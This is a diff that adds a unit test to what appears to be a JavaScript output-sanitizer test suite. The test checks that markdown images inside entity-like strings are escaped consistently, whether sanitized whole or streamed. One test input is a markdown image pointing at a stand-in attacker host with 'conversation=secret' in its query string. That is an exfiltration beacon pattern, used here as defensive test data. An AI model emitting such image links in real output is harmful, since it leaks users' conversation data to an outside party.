@@ -222,5 +222,17 @@ describe("output safety", function () {
         { numRuns: 300 },
       );
     });
+
+    it("escapes a reference name that an image's alt text would complete (found by the property above, seed 1978560122)", function () {
+      for (const whole of ["&Hello![logo](https://beacon.attacker.example/p.png?conversation=secret);img", "&l![](https://x.example/i.png)t;", "&l![t](https://x.example/i.png);"]) {
+        const once = sanitizeOutput(whole);
+        expect(once, whole).to.match(/^\\&/);
+        expect(sanitizeOutput(once), whole).to.equal(once);
+        let streamed = "";
+        const sanitizer = new OutputSanitizer(DEFAULT_OUTPUT_POLICY);
+        for (const c of whole) streamed += sanitizer.push(c);
+        expect(streamed + sanitizer.flush(), whole).to.equal(once);
+      }
+    });
   });
 });
